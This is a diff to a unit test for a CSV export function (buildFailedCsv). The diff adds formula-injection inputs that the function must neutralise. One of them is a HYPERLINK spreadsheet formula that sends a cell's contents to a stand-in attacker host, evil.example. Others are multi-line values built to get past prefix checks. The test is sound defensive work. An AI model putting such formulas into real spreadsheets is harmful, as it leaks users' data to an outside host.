@@ -17,7 +17,17 @@ describe('buildFailedCsv', () => {
     ]);
   });
 
-  it.each(['=SUM(A1)', '+1', '-1', '@cmd', '\tx', '\rx'])('neutralises the formula %j', (cell) => {
+  it.each([
+    '=SUM(A1)',
+    '+1',
+    '-1',
+    '@cmd',
+    '\tx',
+    '\rx',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")\nsecond line',
+    '- item\r\n- item',
+    '@SUM(1)\ny',
+  ])('neutralises the formula %j', (cell) => {
     const rows = Papa.parse<string[]>(buildFailedCsv([{ title: cell, url: 'u' }]).slice(1), {
       skipEmptyLines: true,
     }).data;
